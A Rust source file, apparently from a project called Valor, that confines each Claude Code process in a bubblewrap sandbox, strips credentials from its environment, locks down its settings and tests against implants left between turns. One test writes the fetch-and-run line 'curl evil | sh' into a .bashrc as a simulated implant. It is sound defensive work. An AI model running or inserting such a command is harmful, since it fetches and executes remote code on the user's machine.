//! Each Claude Code process in a sandbox of its own (`valor-sandbox`): the chat's workspace and
//! HOME and nothing else of the machine's data; no capabilities and, as root, a host user of its
//! own; a network namespace where only the model API proxy, Valor's MCP servers and the egress
//! proxy answer (on one socket Valor serves from outside); no secret inside; limits.
//!
//! What Claude Code reads of its own settings is Valor's: managed settings (read-only, highest
//! precedence) turn hooks off and keep permission rules to what Valor passes; the HOME's
//! `~/.claude/settings.json` and shell start-up files are Valor's, read-only; project settings
//! in the workspace are not loaded (`--setting-sources user`). A chat cannot leave an implant that
//! runs in a later turn.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use valor_protocol::approval::AskPerson;

use serde_json::{Value, json};
use valor_chatfs::{ChatDir, ChatFs, Kind};
use valor_sandbox::{
    Bind, Check, DataFile, EgressPolicy, HostRule, Launch, Limits, Sandbox, SandboxError,
};

use crate::ClaudeError;
use crate::proxy::{TurnToken, Upstream};

/// The port inside every sandbox where Valor answers (its own network namespace: no clash).
pub const INSIDE_PORT: u16 = 41000;
/// `http://127.0.0.1:<INSIDE_PORT>`: the model API, the MCP servers and the egress proxy, as
/// a sandbox reaches them.
pub const INSIDE_URL: &str = "http://127.0.0.1:41000";

const MCP_CONFIG_INSIDE: &str = "/run/valor/mcp.json";
const PERSONA_INSIDE: &str = "/run/valor/persona.md";
const MANAGED_SETTINGS: &str = "/etc/claude-code/managed-settings.json";
/// Shell start-up files a chat could otherwise fill with commands for its next turn.
const SHELL_FILES: [&str; 6] = [
    ".bashrc",
    ".bash_profile",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
];
/// What a fresh conversation keeps of its HOME: the CLI's transcripts.
const KEPT_ON_NEW: &str = ".claude/projects";

/// How `[claude] sandbox` asks for it (parsed with the config).
pub use valor_config::SandboxMode;

/// What the sandbox is built from.
pub struct SandboxSetup {
    pub bwrap: PathBuf,
    /// The `valor-sandbox-init` program.
    pub init: PathBuf,
    pub chats: ChatFs,
    pub limits: Limits,
    pub egress: EgressRules,
    pub upstream: Upstream,
}

/// What the driver runs Claude with, decided once at start.
#[derive(Clone)]
pub enum SandboxState {
    /// Every process runs in its own sandbox.
    Active(Arc<ClaudeSandbox>),
    /// Asked for but not working here; `required` says whether turns must refuse.
    Unavailable { reason: String, required: bool },
    /// Switched off by the operator.
    Off,
}

impl std::fmt::Debug for SandboxState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SandboxState::Active(_) => f.write_str("Active"),
            SandboxState::Unavailable { reason, required } => f
                .debug_struct("Unavailable")
                .field("reason", reason)
                .field("required", required)
                .finish(),
            SandboxState::Off => f.write_str("Off"),
        }
    }
}

impl SandboxState {
    /// Probes the sandbox once (for `auto` and `required`): a sandbox of a chat's shape is
    /// started and every wall checked from inside.
    pub async fn probe(mode: SandboxMode, setup: SandboxSetup) -> SandboxState {
        if mode == SandboxMode::Off {
            return SandboxState::Off;
        }
        let required = mode == SandboxMode::Required;
        let unavailable = |reason: String| SandboxState::Unavailable { reason, required };
        if !setup.bwrap.is_file() {
            return unavailable(
                "bubblewrap (bwrap) is not on PATH: install the package bubblewrap".to_owned(),
            );
        }
        if !setup.init.is_file() {
            return unavailable(format!(
                "{} is missing (build it: cargo build --bins)",
                setup.init.display()
            ));
        }
        let sandbox = match Sandbox::new(setup.bwrap.clone(), setup.init.clone()) {
            Ok(sandbox) => sandbox,
            Err(e) => return unavailable(e.to_string()),
        };
        let inside = match sandbox.probe(setup.chats.owner()).await {
            Ok(inside) => inside,
            Err(SandboxError::Spawn { source, .. }) => {
                return unavailable(format!(
                    "cannot run {}: {source} (install the package bubblewrap)",
                    setup.bwrap.display()
                ));
            }
            Err(e) => return unavailable(e.to_string()),
        };
        let checks = inside.checks();
        let failed: Vec<String> = checks
            .iter()
            .filter(|c| !c.ok)
            .map(|c| format!("{} ({})", c.name, c.detail))
            .collect();
        if !failed.is_empty() {
            return unavailable(format!("the sandbox lacks: {}", failed.join("; ")));
        }
        SandboxState::Active(Arc::new(ClaudeSandbox {
            sandbox: Arc::new(sandbox),
            chats: setup.chats,
            limits: setup.limits,
            egress: setup.egress,
            upstream: Arc::new(setup.upstream),
            checks,
        }))
    }

    /// `bubblewrap`, `off`, or `unavailable`: the word /health and `valor doctor` show.
    pub fn label(&self) -> &'static str {
        match self {
            SandboxState::Active(_) => "bubblewrap",
            SandboxState::Unavailable { .. } => "unavailable",
            SandboxState::Off => "off",
        }
    }
}

/// The operator's subscription login, used by the API proxy when no key is set (it never enters
/// a sandbox).
pub fn operator_credentials(home: Option<&str>) -> Option<PathBuf> {
    let path = Path::new(home.filter(|h| !h.is_empty())?).join(".claude/.credentials.json");
    path.is_file().then_some(path)
}

/// `[claude.egress]`, parsed once.
#[derive(Clone, Default)]
pub struct EgressRules {
    every_chat: Vec<HostRule>,
    by_chat: HashMap<i64, Vec<HostRule>>,
    /// Who is asked about a host not on the list (set once approvals are up).
    asker: Arc<std::sync::OnceLock<Arc<dyn AskPerson>>>,
}

impl std::fmt::Debug for EgressRules {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EgressRules")
            .field("every_chat", &self.every_chat)
            .field("by_chat", &self.by_chat)
            .field("asks", &self.asker.get().is_some())
            .finish()
    }
}

impl EgressRules {
    /// From `[claude.egress]` (validated by the config: a bad host is left out with a warning).
    pub fn from_config(config: &valor_config::EgressConfig) -> EgressRules {
        let private: Vec<HostRule> = config
            .private
            .iter()
            .filter_map(|h| HostRule::parse(h).ok())
            .collect();
        let parse = |hosts: &[String]| -> Vec<HostRule> {
            hosts
                .iter()
                .filter_map(|host| match HostRule::parse(host) {
                    Ok(mut rule) => {
                        rule.private = private.contains(&rule);
                        Some(rule)
                    }
                    Err(e) => {
                        tracing::warn!(error = %e, "an egress host is left out");
                        None
                    }
                })
                .collect()
        };
        EgressRules {
            every_chat: parse(&config.allow),
            by_chat: config
                .chats
                .iter()
                .filter_map(|(chat, hosts)| Some((chat.parse().ok()?, parse(hosts))))
                .collect(),
            asker: Arc::default(),
        }
    }

    /// From now on a host not on the list is asked about in the chat (`[approvals]
    /// unlisted_hosts`), not refused.
    pub fn ask_about_unlisted(&self, asker: Arc<dyn AskPerson>) {
        let _ = self.asker.set(asker);
    }

    fn for_chat(&self, chat_id: i64) -> EgressPolicy {
        let mut rules = self.every_chat.clone();
        rules.extend(self.by_chat.get(&chat_id).into_iter().flatten().cloned());
        EgressPolicy {
            chat_id: Some(chat_id),
            rules,
            asker: self.asker.get().cloned(),
        }
    }
}

/// A working sandbox and what every chat's shares.
pub struct ClaudeSandbox {
    sandbox: Arc<Sandbox>,
    chats: ChatFs,
    limits: Limits,
    egress: EgressRules,
    upstream: Arc<Upstream>,
    checks: Vec<Check>,
}

/// What one sandboxed Claude process is started with, besides its command line.
pub struct JailSpec<'a> {
    pub chat_id: i64,
    /// The `claude` program (its folder is bound read-only).
    pub program: &'a Path,
    pub args: Vec<String>,
    /// The environment Valor would give an unsandboxed CLI; the secrets are taken out here.
    pub env: &'a BTreeMap<String, String>,
    pub mcp_config: Option<&'a Value>,
    pub system_append: Option<String>,
    pub allowed_tools: &'a [String],
    /// Programs of stdio MCP servers (their folders are bound read-only).
    pub programs: Vec<PathBuf>,
    /// Valor's MCP routes, answered on the sandbox's socket.
    pub mcp_routes: Option<axum::Router>,
    /// A new conversation: the HOME starts clean (but for the CLI's transcripts).
    pub fresh: bool,
}

impl ClaudeSandbox {
    pub fn chats(&self) -> &ChatFs {
        &self.chats
    }

    /// The sandbox itself, for the helpers Valor starts for a chat (git, the browser): tenants
    /// too, in sandboxes of the same make.
    pub fn shared(&self) -> Arc<Sandbox> {
        Arc::clone(&self.sandbox)
    }

    pub fn checks(&self) -> &[Check] {
        &self.checks
    }

    /// How limits are kept here, for /health.
    pub fn limits_mode(&self) -> String {
        self.sandbox.cgroups().describe()
    }

    pub fn limits_memory(&self) -> bool {
        self.sandbox.cgroups().limits_memory()
    }

    pub fn upstream(&self) -> &Upstream {
        &self.upstream
    }

    /// The chats' egress rules (to have unlisted hosts asked about).
    pub fn egress(&self) -> &EgressRules {
        &self.egress
    }

    /// Starts one Claude process in the chat's sandbox, its socket served.
    pub async fn start(
        &self,
        spec: JailSpec<'_>,
    ) -> Result<(tokio::process::Child, crate::jail::Jail), ClaudeError> {
        let chats = &self.chats;
        let workspace = chats.workspace(spec.chat_id).map_err(workspace_error)?;
        let home = chats.home(spec.chat_id).map_err(workspace_error)?;
        prepare_home(&home, spec.fresh).map_err(workspace_error)?;
        let token = Arc::new(TurnToken::new());
        let mut binds = vec![
            Bind::dir(&workspace, true).map_err(sandbox_error)?,
            Bind::dir(&home, true).map_err(sandbox_error)?,
        ];
        let folders = std::iter::once(spec.program)
            .chain(spec.programs.iter().map(PathBuf::as_path))
            .filter_map(Path::parent)
            .filter(|folder| !folder.starts_with("/usr"));
        for folder in folders {
            if !binds.iter().any(|b| b.target == folder) {
                binds.push(Bind::path(folder, folder, false).map_err(sandbox_error)?);
            }
        }
        let mut args = spec.args;
        args.extend(
            [
                "--mcp-config",
                MCP_CONFIG_INSIDE,
                "--setting-sources",
                "user",
            ]
            .map(str::to_owned),
        );
        let mut data = vec![
            data_file(MANAGED_SETTINGS, managed_settings(spec.allowed_tools)),
            data_file(
                home.join(".claude/settings.json"),
                json!({"hooks": {}}).to_string().into_bytes(),
            ),
            data_file(
                MCP_CONFIG_INSIDE,
                spec.mcp_config
                    .cloned()
                    .unwrap_or_else(|| json!({"mcpServers": {}}))
                    .to_string()
                    .into_bytes(),
            ),
        ];
        data.extend(SHELL_FILES.map(|name| data_file(home.join(name), Vec::new())));
        if let Some(text) = spec.system_append {
            args.push("--append-system-prompt-file".to_owned());
            args.push(PERSONA_INSIDE.to_owned());
            data.push(data_file(PERSONA_INSIDE, text.into_bytes()));
        }
        let launch = Launch {
            name: "claude",
            program: spec.program.to_owned(),
            args: args.into_iter().map(Into::into).collect(),
            env: inside_env(spec.env, home.path(), token.value())
                .into_iter()
                .map(|(k, v)| (k.into(), v.into()))
                .collect(),
            binds,
            data,
            chdir: Some(workspace.path().to_owned()),
            listen_port: Some(INSIDE_PORT),
            keep_fds: Vec::new(),
            run_as: chats.owner(),
            limits: self.limits,
            own_cgroup: true,
        };
        let mut launched = self.sandbox.launch(launch).await.map_err(sandbox_error)?;
        let listener = launched
            .listener
            .take()
            .ok_or_else(|| sandbox_error("the sandbox handed over no socket"))?;
        let mut routes = crate::proxy::routes(Arc::clone(&self.upstream), Arc::clone(&token));
        if let Some(mcp) = spec.mcp_routes {
            routes = mcp.merge(routes);
        }
        let serving = valor_sandbox::serve(
            listener,
            valor_sandbox::Gateway {
                egress: Arc::new(self.egress.for_chat(spec.chat_id)),
                routes: Some(routes),
                tenant: Some(spec.chat_id),
            },
        )
        .map_err(|e| sandbox_error(e.to_string()))?;
        let child = launched.child;
        let jail = crate::jail::Jail::new(
            spec.chat_id,
            launched.leader,
            launched.cgroup,
            serving,
            token,
            workspace,
            self.limits,
        );
        Ok((child, jail))
    }
}

/// Before a process starts in the chat's HOME: `.claude` a real folder (a link or file planted
/// there is removed: bubblewrap binds Valor's settings below it), and for a new conversation
/// everything gone but the CLI's transcripts.
fn prepare_home(home: &ChatDir, fresh: bool) -> Result<(), valor_chatfs::ChatFsError> {
    if fresh {
        for entry in home.entries()? {
            if entry.name == ".claude" && entry.kind == Kind::Dir {
                let claude = home.subdir(".claude")?;
                for inner in claude.entries()? {
                    if Path::new(".claude").join(&inner.name) != Path::new(KEPT_ON_NEW) {
                        claude.remove(&inner.name)?;
                    }
                }
            } else {
                home.remove(&entry.name)?;
            }
        }
    }
    match home.entry(".claude")? {
        Some(entry) if entry.kind == Kind::Dir => {}
        Some(_) => {
            tracing::warn!(home = %home.path().display(), "the chat's ~/.claude was not a folder; replaced");
            home.remove(".claude")?;
            home.create_dir_all(".claude")?;
        }
        None => {
            home.create_dir_all(".claude")?;
        }
    }
    Ok(())
}

/// Claude Code's managed settings (highest precedence, read-only inside): no hooks but
/// managed ones (there are none), permission rules only from here and the command line (a rule
/// a chat writes into the workspace's `.claude/settings.json` counts for nothing), and no way
/// to skip permissions.
fn managed_settings(allowed_tools: &[String]) -> Vec<u8> {
    json!({
        "disableAllHooks": true,
        "allowManagedHooksOnly": true,
        "allowManagedPermissionRulesOnly": true,
        "permissions": {
            "allow": allowed_tools,
            "disableBypassPermissionsMode": "disable",
        },
    })
    .to_string()
    .into_bytes()
}

/// The environment inside: the unsandboxed one without any credential or host path, the API
/// and the web through Valor's socket, the process's own token as its key.
fn inside_env(
    outside: &BTreeMap<String, String>,
    home: &Path,
    token: &str,
) -> BTreeMap<String, String> {
    const SECRET: [&str; 5] = [
        "ANTHROPIC_API_KEY",
        "ANTHROPIC_AUTH_TOKEN",
        "ANTHROPIC_BASE_URL",
        "CLAUDE_CODE_OAUTH_TOKEN",
        "CLAUDE_CONFIG_DIR",
    ];
    let mut env: BTreeMap<String, String> = outside
        .iter()
        .filter(|(k, _)| !SECRET.contains(&k.as_str()))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    env.insert("PATH".to_owned(), "/usr/local/bin:/usr/bin:/bin".to_owned());
    env.insert("HOME".to_owned(), home.display().to_string());
    env.insert("TMPDIR".to_owned(), "/tmp".to_owned());
    env.insert("ANTHROPIC_BASE_URL".to_owned(), INSIDE_URL.to_owned());
    env.insert("ANTHROPIC_API_KEY".to_owned(), token.to_owned());
    for name in ["HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"] {
        env.insert(name.to_owned(), INSIDE_URL.to_owned());
    }
    for name in ["NO_PROXY", "no_proxy"] {
        env.insert(name.to_owned(), "127.0.0.1,localhost".to_owned());
    }
    env
}

fn data_file(target: impl Into<PathBuf>, bytes: Vec<u8>) -> DataFile {
    DataFile {
        target: target.into(),
        bytes,
    }
}

fn workspace_error(e: valor_chatfs::ChatFsError) -> ClaudeError {
    ClaudeError::Sandbox(e.to_string())
}

fn sandbox_error(e: impl std::fmt::Display) -> ClaudeError {
    ClaudeError::Sandbox(e.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_credential_or_host_path_reaches_inside() {
        let outside = BTreeMap::from(
            [
                ("ANTHROPIC_API_KEY", "sk-ant-real"),
                ("ANTHROPIC_AUTH_TOKEN", "bearer-real"),
                ("CLAUDE_CODE_OAUTH_TOKEN", "oauth-real"),
                ("ANTHROPIC_BASE_URL", "https://api.anthropic.com"),
                ("ANTHROPIC_MODEL", "sonnet"),
                ("CLAUDE_CONFIG_DIR", "/root/.claude"),
                ("PATH", "/root/.cargo/bin:/usr/bin"),
                ("LANG", "C.UTF-8"),
            ]
            .map(|(k, v)| (k.to_owned(), v.to_owned())),
        );
        let env = inside_env(&outside, Path::new("/data/homes/chat_1"), "valor-turn-x");
        let all = format!("{env:?}");
        for secret in ["sk-ant-real", "bearer-real", "oauth-real", "/root"] {
            assert!(!all.contains(secret), "{secret} inside: {all}");
        }
        assert_eq!(env["ANTHROPIC_API_KEY"], "valor-turn-x");
        assert_eq!(env["ANTHROPIC_BASE_URL"], INSIDE_URL);
        assert_eq!(env["HTTPS_PROXY"], INSIDE_URL);
        assert_eq!(env["ANTHROPIC_MODEL"], "sonnet");
        assert_eq!(env["LANG"], "C.UTF-8");
    }

    #[test]
    fn a_new_conversation_keeps_only_the_transcripts_and_a_planted_claude_link_goes() {
        let root = tempfile::tempdir().unwrap();
        let chats = ChatFs::new(root.path().join("ws"), root.path().join("homes"), None);
        let home = chats.home(3).unwrap();
        std::fs::create_dir_all(home.join(".claude/projects/x")).unwrap();
        std::fs::write(home.join(".claude/projects/x/s.jsonl"), "{}").unwrap();
        std::fs::write(home.join(".claude/settings.local.json"), "{\"hooks\":1}").unwrap();
        std::fs::write(home.join(".bashrc"), "curl evil | sh").unwrap();
        std::fs::create_dir_all(home.join(".config/x")).unwrap();
        prepare_home(&home, true).unwrap();
        let mut left: Vec<String> = walk(home.path());
        left.sort();
        assert_eq!(
            left,
            [
                ".claude",
                ".claude/projects",
                ".claude/projects/x",
                ".claude/projects/x/s.jsonl"
            ]
        );
        // Between turns a chat replaced ~/.claude by a link into another chat's HOME.
        let other = chats.home(4).unwrap();
        std::fs::remove_dir_all(home.join(".claude")).unwrap();
        std::os::unix::fs::symlink(other.join(""), home.join(".claude")).unwrap();
        prepare_home(&home, false).unwrap();
        let meta = std::fs::symlink_metadata(home.join(".claude")).unwrap();
        assert!(meta.is_dir(), "a real folder again");
        assert!(other.path().is_dir(), "the link's target is untouched");
    }

    fn walk(root: &Path) -> Vec<String> {
        let mut out = Vec::new();
        let mut stack = vec![root.to_owned()];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).unwrap().flatten() {
                let path = entry.path();
                out.push(path.strip_prefix(root).unwrap().display().to_string());
                if entry.file_type().unwrap().is_dir() {
                    stack.push(path);
                }
            }
        }
        out
    }

    #[test]
    fn managed_settings_turn_hooks_off_and_keep_rules_to_valors() {
        let settings: Value =
            serde_json::from_slice(&managed_settings(&["Read".to_owned()])).unwrap();
        assert_eq!(settings["disableAllHooks"], true);
        assert_eq!(settings["allowManagedPermissionRulesOnly"], true);
        assert_eq!(settings["permissions"]["allow"], json!(["Read"]));
    }
}
